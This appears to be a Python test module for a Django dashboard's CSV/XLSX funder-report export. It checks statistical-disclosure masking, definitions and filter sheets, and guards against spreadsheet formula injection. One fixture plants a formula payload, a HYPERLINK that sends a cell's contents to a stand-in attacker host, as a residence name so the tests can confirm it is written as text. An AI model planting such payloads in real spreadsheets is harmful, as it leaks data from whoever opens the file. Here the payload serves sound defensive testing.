"""The funder's report, CSV and XLSX, downloaded through the view by a manager on the known
world of world.py (the year 2025, the clock frozen on 15 January 2026 at noon).

Proved here: the first sheet says the filters and the date of extraction; one sheet per
table, named by its key; a "Définitions" sheet with every table's definition and the
statistical-disclosure rule; every figure is the page's, except the masked ones — exactly
"< 5" for the counts from 1 to 4, "secret" for the second cell a total would otherwise
reveal and for the shares and medians of a row with a masked count; the CSV says the same
as the XLSX; a label that looks like a formula comes out as text in both.
"""

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from o2r.dashboard import exports
from o2r.dashboard.masking import MASK, RULE_FR, SECRET, suppress
from o2r.dashboard.tables import COUNT, PERCENT, Row, Table

from .test_figures import ALL_KEYS
from .world import NOW

pytestmark = pytest.mark.django_db
M = MASK
S = SECRET
YEAR = {"annee": "2025"}
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture(autouse=True)
def _frozen(time_machine):
    time_machine.move_to(NOW, tick=False)


# The world and the cast are built once for the module, on NOW (conftest.py's `rows_on_now`).
@pytest.fixture
def world(rows_on_now):
    return rows_on_now["world"]


@pytest.fixture
def cast(rows_on_now):
    return rows_on_now["cast"]


def download(client, user, fmt, params=YEAR):
    client.force_login(user)
    response = client.get(reverse("dashboard:export", args=[fmt]), params)
    assert response.status_code == 200, response.content[:500]
    return response


def page_tables(client, user, params=YEAR):
    """The tables the dashboard page shows for the same filters."""
    client.force_login(user)
    response = client.get(reverse("dashboard:home"), params)
    assert response.status_code == 200
    return [table for section in response.context["sections"] for table in section["tables"]]


# --- Reading the files --------------------------------------------------------------------------


def xlsx_tables(book):
    """{sheet name: (title, header, {row label: [values]})} of the table sheets."""
    read = {}
    for sheet in book.worksheets[1:-1]:
        rows = list(sheet.iter_rows(values_only=True))
        body = {}
        for row in rows[2:]:
            if row[0] is None:
                break
            body[row[0]] = list(row[1:])
        read[sheet.title] = (rows[0][0], list(rows[1]), body)
    return read


def csv_rows(content):
    assert content.startswith("\ufeff".encode()), "UTF-8 with a BOM, for spreadsheets"
    return list(csv.reader(io.StringIO(content.decode("utf-8")[1:]), delimiter=";"))


def csv_value(text):
    """A CSV cell back to what the page holds: "" is None, "57,1" a float, "12" an int."""
    if text == "":
        return None
    if text.isdigit():
        return int(text)
    if "," in text and text.replace(",", "", 1).isdigit():
        return float(text.replace(",", "."))
    return text


def csv_tables(rows):
    """{key: (title line, header, {row label: [values]})}: each table is its "[key] title"
    line, its header, its rows, then an empty line."""
    read, i = {}, 0
    while i < len(rows):
        line = rows[i]
        if line and line[0].startswith("["):
            key = line[0][1 : line[0].index("]")]
            header, body, i = rows[i + 1], {}, i + 2
            while rows[i]:
                body[rows[i][0]] = [csv_value(cell) for cell in rows[i][1:]]
                i += 1
            read[key] = (line[0], header, body)
        i += 1
    return read


def assert_written_as_the_page_masked(table, written):
    """Every cell as the page has it, or MASK where the rule hides it: a count from 1 to 4;
    a second count where the total of its row or column would reveal a hidden one (the
    rule's `suppress`, proved in test_masking.py); a share or median of a row with a hidden
    count."""
    assert list(written) == [row.label for row in table.rows], table.key
    counts = [i for i, kind in enumerate(table.kinds) if kind == COUNT]
    # A health cell the page hides (a small count or complement) enters the rule as masked.
    flags = suppress(
        [[1 if row.health_hidden()[i] else row.values[i] for i in counts] for row in table.rows],
        total_row=table.total_row,
        total_column=table.total_column,
    )
    for row, row_flags in zip(table.rows, flags, strict=True):
        values = written[row.label]
        assert len(values) == len(table.columns), (table.key, row.label)
        for i, (value, kind) in enumerate(zip(row.values, table.kinds, strict=True)):
            where = (table.key, row.label, table.columns[i])
            if kind == COUNT:
                health = row.health_hidden()[i]
                small = value is not None and 1 <= value <= 4 and not health
                if small:
                    assert values[i] == MASK, where
                hidden = row_flags[counts.index(i)]
                marker = MASK if small else SECRET
            else:
                hidden = any(row_flags) and value is not None
                marker = SECRET
            assert values[i] == (marker if hidden else value), where


# --- XLSX -----------------------------------------------------------------------------------


def test_the_first_sheet_says_the_filters_and_the_date(client, world):
    response = download(client, world.housing_manager, "xlsx")

    assert response["Content-Type"] == XLSX_TYPE
    assert response["Content-Disposition"] == (
        'attachment; filename="o2r-rapport-20250101-20251231.xlsx"'
    )
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["Filtres", *ALL_KEYS, "Définitions"]
    first = book["Filtres"]
    assert [[cell for cell in row] for row in first.iter_rows(values_only=True)] == [
        [exports.TITLE, None],
        [None, None],
        ["Extrait le", "15/01/2026 à 12:00"],
        ["Chiffres calculés le", "15/01/2026 à 12:00"],
        ["Par", "Hélène Garnier"],
        ["Période", "année 2025"],
        ["Résidences", "toutes celles de votre périmètre"],
        ["Structure emploi", "toutes"],
        ["Chargée de mission emploi", "toutes"],
        [None, None],
        ["Secret statistique", RULE_FR],
    ]


def test_the_first_sheet_says_the_filters_chosen(client, world):
    params = {
        "periode": "trimestre",
        "annee": "2025",
        "trimestre": "2",
        "residence": [world.malakoff.pk],
        "organisation": world.adelis.pk,
        "coach": world.coaches["coach_a"].pk,
    }
    response = download(client, world.housing_manager, "xlsx", params)

    assert 'filename="o2r-rapport-20250401-20250630.xlsx"' in response["Content-Disposition"]
    first = load_workbook(io.BytesIO(response.content))["Filtres"]
    said = {row[0]: row[1] for row in first.iter_rows(values_only=True) if row[0]}
    assert said["Période"] == "2e trimestre 2025"
    assert said["Résidences"] == "Résidence Malakoff"
    assert said["Structure emploi"] == "Adelis — Médiation Emploi"
    assert said["Chargée de mission emploi"] == "Claire Moreau"


def test_the_first_sheet_names_the_organisation_the_employment_managers_figures_are_of(
    client, world
):
    """Her job-side figures are Adelis's only (test_figures.py): her report must not say
    "toutes" (all organisations) to the funder."""
    response = download(client, world.employment_manager, "xlsx")

    first = load_workbook(io.BytesIO(response.content))["Filtres"]
    said = {row[0]: row[1] for row in first.iter_rows(values_only=True) if row[0]}
    assert world.adelis.name in said["Structure emploi"]


def test_every_figure_is_the_pages_or_masked(client, world):
    for manager in (world.housing_manager, world.employment_manager):
        page = page_tables(client, manager)
        book = load_workbook(io.BytesIO(download(client, manager, "xlsx").content))
        sheets = xlsx_tables(book)

        assert list(sheets) == [table.key for table in page]
        for table in page:
            title, header, written = sheets[table.key]
            assert title == table.title
            assert header == [table.label_header, *table.columns]
            assert_written_as_the_page_masked(table, written)


def test_the_masks_worked_by_hand(client, world):
    sheets = xlsx_tables(
        load_workbook(io.BytesIO(download(client, world.housing_manager, "xlsx").content))
    )

    def written(key):
        return sheets[key][2]

    # Two posters alone under a total of 8: the 6 hall sessions are masked too ("secret": it
    # is no small count), or 8 - 6 would give the posters away. The people met (6, 10) have
    # no masked cell in their columns and stay shown.
    assert written("actions") == {
        "Permanence dans le hall": [S, 6, 10],
        "Campagne d'affichage": [M, 0, 0],
        "Réunion avec l'équipe de la résidence": [0, 0, 0],
        "Porte-à-porte": [0, 0, 0],
        "Réunion d'information": [0, 0, 0],
        "Événement": [0, 0, 0],
        "Campagne SMS": [0, 0, 0],
        "Total": [8, 6, 10],
    }
    # Les Dervallières [4, 1 | 5], Malakoff [2, 1 | 3], total [6, 2 | 8]: the total row hides
    # 6 beside the 2; the total column hides 5 beside the 3. Only zeros and 8 remain.
    assert written("actions_residences") == {
        "Résidence Les Dervallières": [M, M, 0, 0, 0, 0, 0, S],
        "Résidence Malakoff": [M, M, 0, 0, 0, 0, 0, M],
        "Total": [S, M, 0, 0, 0, 0, 0, 8],
    }
    # A share and a median computed on a masked count are masked with it.
    assert written("parcours") == {
        "Repérées": [7, None, None],
        "Remobilisées (accord d'accompagnement)": [5, 57.1, 60.0],
        "Accompagnées (IOD)": [M, S, S],
        "En emploi": [5, 100.0, 31.0],
        "En emploi durable": [M, S, None],
        "Toujours en emploi 6 mois après l'embauche": [M, S, None],
    }
    emploi = written("emploi")
    assert emploi["Démarches de prospection"] == [6, None]
    assert emploi["Entreprises prospectées"] == [M, None]
    assert emploi["Offres du marché caché"] == [M, S]
    assert emploi["Embauches"] == [5, None]
    assert emploi["dont CDI"] == [M, S]
    # Five masked counts under a total of 12: none can be found by subtraction.
    assert [values[0] for values in written("sms").values()] == [5, M, M, M, M, M, 12]
    assert written("suivis")["J+7"] == [M, M, 0, 0, 5, S]
    assert written("maintien_6_mois") == {
        "Confirmé en poste": [M],
        "Terminé": [M],
        "Inconnu": [M],
        "Pas encore échu": [M],
        "Total": [5],
    }


def test_a_share_on_a_row_masked_as_the_second_cell_is_masked_too():
    table = Table(
        key="essai",
        section="funder",
        title="Essai",
        definition="",
        label_header="Ligne",
        columns=["Personnes", "Part (%)"],
        kinds=[COUNT, PERCENT],
        rows=[
            Row("Grande", [6, 75.0]),
            Row("Petite", [2, 25.0]),
            Row("Aucune", [0, 0.0]),
            Row("Total", [8, None], total=True),
        ],
        total_row=True,
    )

    assert exports.masked_rows(table) == [[S, S], [M, S], [0, 0.0], [8, None]]


def test_the_definitions_sheet(client, world):
    page = page_tables(client, world.housing_manager)
    book = load_workbook(io.BytesIO(download(client, world.housing_manager, "xlsx").content))

    rows = list(book["Définitions"].iter_rows(values_only=True))
    assert rows[0] == ("Tableau", "Feuille", "Définition")
    assert rows[1:-1] == [(table.title, table.key, table.definition) for table in page]
    assert all(definition for _, _, definition in rows[1:-1])
    assert rows[-1] == ("Secret statistique", None, RULE_FR)


# --- CSV ------------------------------------------------------------------------------------


def test_the_csv_says_what_the_xlsx_says(client, world):
    manager = world.housing_manager
    response = download(client, manager, "csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="o2r-rapport-20250101-20251231.csv"' in response["Content-Disposition"]
    rows = csv_rows(response.content)

    assert rows[:9] == [
        [exports.TITLE],
        ["Extrait le", "15/01/2026 à 12:00"],
        ["Chiffres calculés le", "15/01/2026 à 12:00"],
        ["Par", "Hélène Garnier"],
        ["Période", "année 2025"],
        ["Résidences", "toutes celles de votre périmètre"],
        ["Structure emploi", "toutes"],
        ["Chargée de mission emploi", "toutes"],
        [],
    ]
    page = page_tables(client, manager)
    tables = csv_tables(rows)
    assert list(tables) == ALL_KEYS
    sheets = xlsx_tables(load_workbook(io.BytesIO(download(client, manager, "xlsx").content)))
    for table in page:
        title, header, written = tables[table.key]
        assert title == f"[{table.key}] {table.title}"
        assert header == [table.label_header, *table.columns]
        assert_written_as_the_page_masked(table, written)
        assert written == sheets[table.key][2]

    # The definitions close the file, the masking rule last.
    start = rows.index(["Définitions"])
    assert rows[start + 1 :] == [
        *[[table.title, table.definition] for table in page],
        ["Secret statistique", RULE_FR],
    ]


def test_shares_are_written_with_a_decimal_comma(client, world):
    rows = csv_rows(download(client, world.housing_manager, "csv").content)

    assert ["Remobilisées (accord d'accompagnement)", "5", "57,1", "60,0"] in rows
    assert ["Accompagnées (IOD)", M, S, S] in rows


# --- A label that looks like a formula ---------------------------------------------------------


FORMULA = '=HYPERLINK("http://attaquant.example/?d="&A1,"Cliquez ici")'


@pytest.fixture
def formula_labels(world):
    world.in_qpv.name = FORMULA
    world.in_qpv.save(update_fields=["name"])
    claire = world.coaches["coach_a"]
    claire.first_name = "@SUM(1+1)"
    claire.save(update_fields=["first_name"])
    return {"annee": "2025", "residence": [world.in_qpv.pk, world.malakoff.pk]}


def test_a_label_beginning_with_equals_is_text_in_the_xlsx(client, world, formula_labels):
    content = download(client, world.housing_manager, "xlsx", formula_labels).content

    book = load_workbook(io.BytesIO(content))
    label = book["actions_residences"]["A3"]
    assert (label.value, label.data_type) == (FORMULA, "s")
    coach = book["portefeuilles"]["A5"]
    assert (coach.value, coach.data_type) == ("@SUM(1+1) Moreau", "s")
    chosen = book["Filtres"]["B7"]
    assert (chosen.value, chosen.data_type) == (f"{FORMULA}, Résidence Malakoff", "s")
    # No formula anywhere in the file.
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name


def test_a_label_beginning_with_equals_is_text_in_the_csv(client, world, formula_labels):
    rows = csv_rows(download(client, world.housing_manager, "csv", formula_labels).content)

    assert ["Résidences", f"'{FORMULA}, Résidence Malakoff"] in rows
    assert [f"'{FORMULA}", M, M, "0", "0", "0", "0", "0", S] in rows
    assert ["'@SUM(1+1) Moreau", M, S] in rows
    assert not [row for row in rows if row and row[0][:1] in ("=", "+", "-", "@")]
